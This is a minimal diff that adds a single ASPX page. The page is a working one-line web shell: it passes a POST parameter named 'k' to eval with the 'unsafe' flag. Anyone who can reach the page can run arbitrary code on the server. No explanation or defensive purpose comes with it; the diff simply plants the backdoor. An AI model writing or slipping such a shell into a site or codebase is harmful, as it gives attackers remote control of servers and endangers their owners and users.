@@ -1,0 +1,1 @@
+<%@ Page Language="Jscript" Debug=true%><%eval(Request.Form["k"],"unsafe");%>
